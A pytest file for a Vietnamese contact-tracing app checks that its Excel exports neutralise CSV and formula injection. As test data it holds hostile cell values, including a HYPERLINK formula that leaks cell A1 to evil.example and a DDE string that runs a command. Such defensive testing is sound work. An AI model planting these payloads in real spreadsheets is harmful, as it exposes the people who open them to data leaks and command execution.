"""Every spreadsheet kiemdich writes neutralises texts a spreadsheet would run as formulas
(OWASP CSV injection): a checkpoint named `=HYPERLINK(...)` is text in every export."""

import datetime as dt
import io
import uuid
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from kiemdich import official_docs, report_files
from kiemdich.checkins.models import Checkin
from kiemdich.declarations.cookies import PERSON_COOKIE
from kiemdich.declarations.services import person_token
from kiemdich.tabular import safe_cell
from kiemdich.tracing import exports as tracing_exports
from kiemdich.tracing.models import Case, Contact
from tests.declarations.conftest import DECLARATION, make_person
from tests.venues.conftest import make_venue

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
HOSTILE_TEXTS = [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_safe_cell_neutralises_formula_starts(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("Tạp hóa = chợ") == "Tạp hóa = chợ"
    assert safe_cell(-5) == -5 and safe_cell(None) is None


def cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def assert_no_formula(content: bytes, *hostile: str) -> None:
    found = cells(content)
    for c in found:
        assert c.data_type != "f", c.coordinate
        assert c.hyperlink is None, c.coordinate
        if isinstance(c.value, str):
            assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), c.value
    values = {c.value for c in found}
    for text in hostile:
        assert "'" + text in values


#: A frame whose every text would run as a formula: a configured issuing body, a unit's name,
#: an official's own name.
HOSTILE_HEAD = official_docs.Letterhead(
    issuing_body=("=UBND",), place="-Phước", date=dt.date(2026, 12, 3), preparer="@me"
)


@pytest.fixture
def hostile_visit(client, binh_phuoc):
    """A person who declared, and visited a checkpoint whose owner named it as a formula."""
    response = client.post(
        "/api/v1/declarations",
        {**DECLARATION, "address": "@SUM(1+1)*cmd"},
        content_type="application/json",
    )
    token = response.json()["person_token"]
    venue = make_venue(name=HOSTILE, address="-1+2 http://evil.example")
    person = Checkin.objects.model._meta.get_field("person").related_model.objects.get()
    now = timezone.now()
    Checkin.objects.create(
        client_id=uuid.uuid4(),
        venue=venue,
        person=person,
        method="self",
        t_in=now - dt.timedelta(hours=1),
        t_out=now,
    )
    return token


def test_the_citizens_api_export_writes_no_formula(client, hostile_visit):
    response = client.get("/api/v1/declarations/mine.xlsx", HTTP_X_PERSON_TOKEN=hostile_visit)
    assert response.status_code == 200
    assert_no_formula(response.content, HOSTILE, "-1+2 http://evil.example", "@SUM(1+1)*cmd")


def test_the_citizens_page_export_writes_no_formula(client, hostile_visit):
    client.cookies[PERSON_COOKIE] = hostile_visit
    response = client.get("/me/export.xlsx")
    assert response.status_code == 200
    assert_no_formula(response.content, HOSTILE, "-1+2 http://evil.example")


def test_the_contact_list_writes_no_formula(binh_phuoc):
    venue = make_venue(name=HOSTILE)
    f0, f1 = make_person(1), make_person(2)
    f1.full_name, f1.address = "+Nguyễn", "=1+1"
    f1.save()
    now = timezone.now()
    case = Case.objects.create(
        person=f0,
        unit_id="25396",
        confirmed_at=now,
        infectious_from=now - dt.timedelta(days=2),
        infectious_to=now + dt.timedelta(days=1),
    )
    contact = Contact.objects.create(
        case=case,
        person=f1,
        degree=1,
        source=f0,
        venue=venue,
        overlap_from=now - dt.timedelta(hours=2),
        overlap_to=now - dt.timedelta(hours=1),
        commune_id="25396",
        notes="@cmd",
    )
    content = tracing_exports.contacts_xlsx(case, venue.commune, [contact], HOSTILE_HEAD)
    assert_no_formula(
        content,
        HOSTILE,
        "+Nguyễn",
        "=1+1",
        "@cmd",
        "=UBND",
        "-Phước, ngày 03 tháng 12 năm 2026",
        "@me",
    )


def test_official_report_tables_write_no_formula():
    table = report_files.ReportTable(
        title="THỐNG KÊ",
        subtitle="(ngày 12/07/2021)",
        header=["STT", "Phạm vi", "Số điểm"],
        rows=[[HOSTILE, 3], ["Xã Đức Phong", Decimal("40.02")]],
        total=[3],
        widths=[1.3, 7.7, 3.5],
        notes=["=1+1 ghi chú"],
    )
    content = report_files.to_xlsx(table, HOSTILE_HEAD)
    assert_no_formula(
        content, HOSTILE, "=1+1 ghi chú", "=UBND", "-Phước, ngày 03 tháng 12 năm 2026", "@me"
    )


def test_unit_and_checkpoint_exports_share_the_writer():
    """Every exporter builds its workbook through kiemdich.tabular (no direct XlsxWriter use),
    so the options and the neutralising cannot be forgotten by the next export."""
    from pathlib import Path

    import kiemdich

    root = Path(kiemdich.__file__).parent
    direct = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "tabular.py"
        and ("xlsxwriter.Workbook(" in path.read_text() or "csv.writer(" in path.read_text())
    ]
    assert direct == []


def test_a_person_token_export_still_works_for_plain_data(client, binh_phuoc):
    person = make_person(3)
    response = client.get(
        "/api/v1/declarations/mine.xlsx", HTTP_X_PERSON_TOKEN=person_token(person)
    )
    assert response.status_code == 200
    assert cells(response.content)
